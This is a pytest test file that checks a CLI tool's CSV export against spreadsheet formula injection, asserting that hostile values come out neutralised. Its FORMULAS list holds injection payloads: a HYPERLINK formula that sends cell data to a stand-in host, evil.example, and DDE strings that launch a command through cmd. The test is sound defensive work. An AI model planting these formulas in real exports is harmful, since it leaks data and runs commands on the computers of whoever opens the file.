"""No formula injection: every text field of the example replaced by a spreadsheet formula, and
every CSV output checked cell by cell (the xlsx export is checked in tests/exchange)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hostile_cases import poisoned_copy
from typer.testing import CliRunner

from digistrat.cli import app
from digistrat.exchange.cells import TRIGGERS

EXAMPLE = Path(__file__).parent.parent.parent / "examples" / "riverside"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def dangerous(cells: list[str]) -> list[str]:
    return [c for c in cells if c.startswith(TRIGGERS) and not NUMBER.fullmatch(c)]


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return poisoned_copy(EXAMPLE, tmp_path_factory.mktemp("formulas") / "repo", FORMULAS)


@pytest.mark.parametrize("command", [["score"], ["score", "--plan"]])
def test_csv_outputs_never_start_a_formula(poisoned: Path, command: list[str]) -> None:
    result = CliRunner().invoke(
        app, [*command, str(poisoned), "--format", "csv"], env={"DIGISTRAT_TODAY": "2026-06-01"}
    )
    assert result.exit_code in (0, 1), result.output
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
    cells = [c for row in rows[1:] for c in row]
    # the payloads reached the output, neutralised, and nothing else starts a formula
    assert any(c.startswith("'=HYPERLINK") for c in cells), cells[:20]
    assert dangerous(cells) == []
    assert all(len(row) == len(rows[0]) for row in rows), "a carriage return split a row"
